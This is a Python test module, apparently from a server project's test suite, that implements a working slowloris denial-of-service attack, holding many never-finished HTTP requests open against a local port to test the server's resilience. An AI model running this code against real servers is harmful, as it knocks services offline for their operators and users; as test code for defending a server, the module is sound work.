"""A slowloris attack: requests that never end, in their own process.

`python -m tests.server.slowloris PORT NUMBER` holds that many connections to this machine. Each
sends a header every second and never the last, and is reopened a second after it is closed. It runs
until its standard input is closed.
"""

from __future__ import annotations

import asyncio
import random
import resource
import sys

REQUEST_START = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n"


class SlowConnection(asyncio.Protocol):
    """A connection that is reopened forever."""

    def __init__(self, port: int) -> None:
        self._port = port
        self._loop = asyncio.get_running_loop()
        self._transport: asyncio.Transport | None = None

    def open(self) -> None:
        self._opening = asyncio.ensure_future(
            self._loop.create_connection(lambda: self, "127.0.0.1", self._port)
        )
        self._opening.add_done_callback(self._opened)

    def _opened(self, opening: asyncio.Task[tuple[asyncio.Transport, SlowConnection]]) -> None:
        if not opening.cancelled() and opening.exception() is not None:
            self._loop.call_later(1.0, self.open)

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self._transport = transport
        transport.write(REQUEST_START)
        self._loop.call_later(1.0, self._drip, transport)

    def connection_lost(self, error: Exception | None) -> None:
        self._transport = None
        self._loop.call_later(1.0, self.open)

    def _drip(self, transport: asyncio.Transport) -> None:
        if transport is self._transport and not transport.is_closing():
            transport.write(b"X-Slow: 1\r\n")
            self._loop.call_later(1.0, self._drip, transport)


async def attack(port: int, number: int) -> None:
    """Hold `number` connections, opened within three seconds."""
    loop, chance = asyncio.get_running_loop(), random.Random(number)
    for _ in range(number):
        loop.call_later(3 * chance.random(), SlowConnection(port).open)
    await asyncio.to_thread(sys.stdin.read)


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(attack(int(sys.argv[1]), int(sys.argv[2])))
